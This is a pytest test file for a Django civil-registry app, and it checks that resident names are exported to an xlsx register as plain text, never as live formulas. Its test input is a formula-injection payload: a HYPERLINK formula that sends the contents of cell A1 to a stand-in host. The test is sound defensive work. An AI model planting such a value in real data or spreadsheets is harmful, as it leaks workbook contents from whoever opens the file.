"""A name typed as a spreadsheet formula is written to the register workbook as text, never as
a live formula."""

from __future__ import annotations

import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from alur.documents import registers
from alur.documents.tests.test_services import issued
from alur.registry.models import Resident

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://contoh.test/?d="&A1,"Lihat")'


def test_register_workbook_cells_are_not_formulas() -> None:
    now = timezone.now()
    document = issued("akta_kelahiran", "S2e", now, 1)
    Resident.objects.filter(pk=document.resident_id).update(name=FORMULA)  # stored before checks
    local = timezone.localdate(now)
    data = registers.register_xlsx(
        office=document.office, kind="akta_kelahiran", year=local.year, month=local.month
    )
    sheet = load_workbook(io.BytesIO(data)).active
    cell = sheet.cell(row=5, column=4)
    assert cell.value == FORMULA  # shown as typed
    assert cell.data_type == "s" and cell.quotePrefix
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
